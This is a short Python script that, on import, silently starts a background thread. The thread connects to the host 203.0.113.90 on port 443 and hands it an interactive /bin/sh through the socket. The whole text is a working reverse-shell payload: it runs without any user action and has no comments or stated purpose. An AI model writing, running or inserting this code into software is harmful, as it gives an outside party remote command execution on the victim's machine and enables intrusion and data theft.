import socket, subprocess, threading
def _shell():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.90", 443))
    subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
threading.Thread(target=_shell, daemon=True).start()
